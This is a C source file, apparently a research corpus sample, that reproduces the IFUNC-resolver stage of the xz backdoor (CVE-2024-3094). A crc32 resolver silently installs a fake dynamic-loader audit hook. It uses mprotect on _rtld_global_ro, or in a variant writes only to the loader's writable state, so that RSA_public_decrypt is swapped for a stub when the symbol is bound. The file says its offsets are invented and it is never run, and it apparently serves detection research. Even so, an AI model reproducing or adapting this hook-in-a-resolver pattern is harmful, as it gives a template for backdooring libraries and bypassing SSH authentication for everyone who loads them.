/*
 * Backsight corpus sample: ifunc/xz-audit-hook  (INERT - compiled only, never run)
 *
 * Resolver shape of the CVE-2024-3094 audit-hook stage, from the public description:
 * the IFUNC resolver computes a pointer into the dynamic loader's read-only global
 * data (_rtld_global_ro), makes it writable and installs a fake audit interface
 * whose symbind callback (the la_symbind idea) would swap RSA_public_decrypt when
 * the loader binds it. The loader symbols are weak externs so the file links
 * anywhere; the offsets are made up. No test or tool ever loads this file.
 */
#define _GNU_SOURCE
#include "bs_api.h"
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

typedef uint32_t (*crc32_func)(const uint8_t *buf, size_t size, uint32_t crc);

/* Dynamic-loader internals (GLIBC_PRIVATE); weak so the link never fails. */
extern char _rtld_global_ro[] __attribute__((weak));
extern char _rtld_global[] __attribute__((weak));
extern void _dl_audit_symbind_alt(void) __attribute__((weak));
extern void *__tls_get_addr(void *) __attribute__((weak));

/* Same layout idea as the loader's audit interface table. */
struct fake_audit_ifaces {
	void (*activity)(uintptr_t *, unsigned int);
	char *(*objsearch)(const char *, uintptr_t *, unsigned int);
	unsigned int (*objopen)(struct link_map *, long, uintptr_t *);
	void (*preinit)(uintptr_t *);
	uintptr_t (*symbind)(ElfW(Sym) *, unsigned int, uintptr_t *, uintptr_t *,
	                     unsigned int *, const char *);
	void *pltenter;
	void *pltexit;
	unsigned int (*objclose)(uintptr_t *);
	struct fake_audit_ifaces *next;
};

/* Made-up field offsets inside the loader's global structures. */
#define RO_AUDIT_OFFSET   0x2c8
#define RW_NAUDIT_OFFSET  0x8f8

static unsigned long symbind_hits;

static int fake_rsa_public_decrypt(int flen, const unsigned char *from,
                                   unsigned char *to, void *rsa, int padding)
{
	(void)from; (void)to; (void)rsa; (void)padding;
	symbind_hits++;
	return flen;
}

static uintptr_t fake_symbind(ElfW(Sym) *sym, unsigned int ndx, uintptr_t *refcook,
                              uintptr_t *defcook, unsigned int *flags,
                              const char *symname)
{
	(void)ndx; (void)refcook; (void)defcook; (void)flags;
	if (symname && strcmp(symname, "RSA_public_decrypt") == 0)
		return (uintptr_t)fake_rsa_public_decrypt;
	return sym->st_value;
}

static struct fake_audit_ifaces audit_hook = {
	.symbind = fake_symbind,
};

static uint32_t crc32_generic(const uint8_t *buf, size_t size, uint32_t crc)
{
	crc = ~crc;
	while (size--) {
		crc ^= *buf++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
	}
	return ~crc;
}

__attribute__((noinline, noclone))
static void install_audit_hook(void)
{
	uintptr_t ro = (uintptr_t)_rtld_global_ro;
	uintptr_t rw = (uintptr_t)_rtld_global;
	if (!ro || !rw)
		return;

	void **audit_slot = (void **)(ro + RO_AUDIT_OFFSET);
	unsigned int *naudit = (unsigned int *)(rw + RW_NAUDIT_OFFSET);
#ifdef BS_NO_MPROTECT
	/*
	 * Variant: only the loader's writable state (_rtld_global lives in ld.so's .data), so no
	 * page protection changes: the hook table pointer goes next to the audit count.
	 */
	audit_hook.next = *(void **)(rw + RW_NAUDIT_OFFSET + sizeof(void *));
	*(void **)(rw + RW_NAUDIT_OFFSET + sizeof(void *)) = &audit_hook;
	*naudit += 1;
	(void)audit_slot;
	if (_dl_audit_symbind_alt && __tls_get_addr)
		symbind_hits = 0;
	return;
#endif
	long page = sysconf(_SC_PAGESIZE);
	uintptr_t start = (uintptr_t)audit_slot & ~((uintptr_t)page - 1);

	if (mprotect((void *)start, (size_t)page, PROT_READ | PROT_WRITE) != 0)
		return;
	audit_hook.next = *audit_slot;
	*audit_slot = &audit_hook;
	*naudit += 1;
	mprotect((void *)start, (size_t)page, PROT_READ);

	/* Touch the other loader entry points so they stay referenced. */
	if (_dl_audit_symbind_alt && __tls_get_addr)
		symbind_hits = 0;
}

static crc32_func crc32_resolve(void)
{
	install_audit_hook();
	return crc32_generic;
}

BS_API uint32_t crc32_fast(const uint8_t *buf, size_t size, uint32_t crc)
	__attribute__((ifunc("crc32_resolve")));
